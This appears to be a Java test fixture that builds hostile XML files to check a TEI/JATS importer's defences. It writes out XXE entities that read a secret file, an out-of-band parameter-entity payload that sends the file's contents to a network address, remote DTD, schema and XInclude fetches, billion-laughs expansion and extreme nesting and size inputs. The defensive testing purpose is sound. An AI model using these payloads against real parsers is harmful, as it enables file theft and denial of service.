package org.ibid.core.importing.hostile;

import java.nio.charset.StandardCharsets;
import java.util.stream.Stream;

/** What XML can be made to do: fetch, grow, nest. */
final class HostileXml {

    private HostileXml() {}

    /**
     * @param net an address that must see nobody
     * @param secret the address of a file that nobody may read
     */
    static Stream<HostileFile> files(String net, String secret) {
        return Stream.of(
                HostileFile.tei(
                        "XXE: an entity that is another file", entity("SYSTEM '" + secret + "'"), HostileXml::call),
                HostileFile.jats("XXE in JATS", entity("SYSTEM '" + secret + "'"), HostileXml::call),
                HostileFile.tei("XXE: an entity from the net", entity("SYSTEM '" + net + "entity'"), HostileXml::call),
                HostileFile.tei(
                        "a parameter entity from the net",
                        "<!DOCTYPE TEI [<!ENTITY % p SYSTEM '" + net + "p.dtd'> %p;]>",
                        HostileXml::call),
                HostileFile.tei(
                        "a parameter entity that sends a file away",
                        "<!DOCTYPE TEI [<!ENTITY % f SYSTEM '" + secret + "'><!ENTITY % e \"<!ENTITY &#37; s SYSTEM '"
                                + net + "?%f;'>\">%e;%s;]>",
                        HostileXml::call),
                HostileFile.tei("a DTD from the net", "<!DOCTYPE TEI SYSTEM '" + net + "tei.dtd'>", () -> ""),
                HostileFile.jats(
                        "a public DTD from the net",
                        "<!DOCTYPE article PUBLIC '-//NLM//DTD JATS//EN' '" + net + "jats.dtd'>",
                        () -> ""),
                HostileFile.tei(
                        "a stylesheet from the net",
                        "<?xml-stylesheet type='text/xsl' href='" + net + "a.xsl'?>",
                        () -> ""),
                HostileFile.tei(
                        "XInclude of another file",
                        "",
                        () -> "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='" + secret
                                + "' parse='text'/><p>After.</p>"),
                HostileFile.tei(
                        "a schema from the net",
                        "",
                        () -> "<p xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance' xsi:schemaLocation='urn:a "
                                + net + "a.xsd'>After.</p>"),
                HostileFile.tei("a billion laughs", laughs(40), () -> "<p>&a39;</p>"),
                HostileFile.tei("a billion laughs in an attribute", laughs(40), () -> "<p n='&a39;'>x</p>"),
                HostileFile.tei(
                        "a long entity called 100,000 times",
                        "<!DOCTYPE TEI [<!ENTITY x '" + "ha".repeat(50_000) + "'>]>",
                        () -> "<p>" + "&x;".repeat(100_000) + "</p>"),
                HostileFile.tei(
                        "an entity that calls itself",
                        "<!DOCTYPE TEI [<!ENTITY x '&y;'><!ENTITY y '&x;'>]>",
                        HostileXml::call),
                HostileFile.tei("XML nested 10,000 deep", "", () -> nested("div", 10_000)),
                HostileFile.jats("JATS nested 10,000 deep", "", () -> nested("sec", 10_000)),
                HostileFile.jats("quotations in quotations", "", () -> nested("disp-quote", 120)),
                HostileFile.jats(
                        "lists in lists",
                        "",
                        () -> "<list><list-item>".repeat(60) + "<p>x</p>" + "</list-item></list>".repeat(60)),
                HostileFile.tei(
                        "tables in tables",
                        "",
                        () -> "<table><row><cell>".repeat(45) + "x" + "</cell></row></table>".repeat(45)),
                HostileFile.tei("an attribute of one megabyte", "", () -> "<p n='" + "a".repeat(1 << 20) + "'>x</p>"),
                HostileFile.tei("200,000 attributes", "", () -> "<p " + counted("a%d='' ", 200_000) + ">x</p>"),
                HostileFile.tei(
                        "an element with a name of one megabyte", "", () -> "<p><" + "a".repeat(1 << 20) + "/></p>"),
                HostileFile.tei("a million notes", "", () -> "<p>" + "<note>x</note>".repeat(1_000_000) + "</p>"),
                HostileFile.tei(
                        "notes that call each other",
                        "",
                        () -> "<p>x<ref target='#a'>1</ref></p><note xml:id='a'>A<ref target='#b'>2</ref></note><note"
                                + " xml:id='b'>B<ref target='#a'>1</ref></note>"),
                HostileFile.tei(
                        "a note inside itself",
                        "",
                        () -> "<p>x<ref target='#a'>1</ref></p>"
                                + "<note xml:id='a'>A<note xml:id='a'>B<ref target='#a'>1</ref></note></note>"),
                HostileFile.tei(
                        "notes inside notes",
                        "",
                        () -> "<p>x" + "<note>n".repeat(140) + "</note>".repeat(140) + "</p>"),
                HostileFile.tei(
                        "50,000 notes of one id",
                        "",
                        () -> "<p>" + "<note xml:id='n'>x</note>".repeat(50_000) + "</p>"),
                HostileFile.jats(
                        "cells that span a million rows",
                        "",
                        () -> "<table-wrap><table>"
                                + "<tr><td colspan='1000000' rowspan='1000000'>x</td></tr>".repeat(200)
                                + "</table></table-wrap>"),
                HostileFile.tei("two million empty elements", "", () -> "<p>" + "<a/>".repeat(2_100_000) + "</p>"),
                HostileFile.tei("a comment of 3 MB", "<!--" + "- ".repeat(1_500_000) + "-->", () -> ""),
                HostileFile.tei(
                        "a document type that never ends",
                        "<!DOCTYPE TEI [" + "<!ENTITY a 'b'>".repeat(100_000),
                        () -> ""),
                HostileFile.tei(
                        "a namespace for each element", "", () -> counted("<x:p xmlns:x='urn:%d'>x</x:p>", 50_000)),
                HostileFile.tei("XML that is cut off", "", () -> "<p>x<hi"),
                new HostileFile(
                        "XML in UTF-16 that says it is UTF-8",
                        "essay.xml",
                        () ->
                                "<?xml version='1.0' encoding='UTF-8'?><TEI><text><body><p>The mill was old.</p></body></text></TEI>"
                                        .getBytes(StandardCharsets.UTF_16)),
                new HostileFile(
                        "XML in an encoding that nobody knows",
                        "essay.xml",
                        () ->
                                "<?xml version='1.0' encoding='x-nobody'?><TEI><text><body><p>The mill was old.</p></body></text></TEI>"
                                        .getBytes(StandardCharsets.UTF_8)),
                HostileFile.text("a root that claims to be TEI and holds nothing", "essay.xml", () -> "<TEI/>"));
    }

    private static String call() {
        return "<p>before &x; after</p>";
    }

    private static String entity(String what) {
        return "<!DOCTYPE TEI [<!ENTITY x " + what + ">]>";
    }

    private static String laughs(int times) {
        StringBuilder bomb = new StringBuilder("<!DOCTYPE TEI [<!ENTITY a0 'ha'>");
        for (int i = 1; i < times; i++) {
            bomb.append("<!ENTITY a%d '&a%d;&a%d;'>".formatted(i, i - 1, i - 1));
        }
        return bomb + "]>";
    }

    static String nested(String element, int times) {
        return ("<" + element + ">").repeat(times) + "<p>deep</p>" + ("</" + element + ">").repeat(times);
    }

    /** The part as often as said, each with its number. */
    static String counted(String part, int times) {
        StringBuilder all = new StringBuilder();
        for (int i = 0; i < times; i++) {
            all.append(String.format(part, i));
        }
        return all.toString();
    }
}
